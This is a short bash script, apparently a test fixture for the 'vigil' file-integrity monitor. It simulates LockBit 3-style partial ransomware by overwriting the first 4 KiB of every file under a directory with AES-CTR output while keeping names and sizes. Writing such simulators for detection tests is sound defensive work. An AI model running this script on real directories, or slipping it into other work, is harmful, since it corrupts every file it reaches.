#!/usr/bin/env bash
# ransom_inplace.sh DIR -- a test ransomware that encrypts the first 4 KiB
# of every file under DIR in place (openssl's output written over it with
# dd conv=notrunc), keeping names and sizes, as LockBit 3's partial mode
# does. For vigil's tests only (tests/integration/test_fim_ransomware.sh).
dir=$1
find "$dir" -type f -print0 |
    while IFS= read -r -d '' f; do
        openssl enc -aes-256-ctr -pbkdf2 -iter 1 -pass pass:vigil-test \
            -in "$f" 2>/dev/null | head -c 4096 |
            dd of="$f" bs=4096 count=1 conv=notrunc status=none
    done
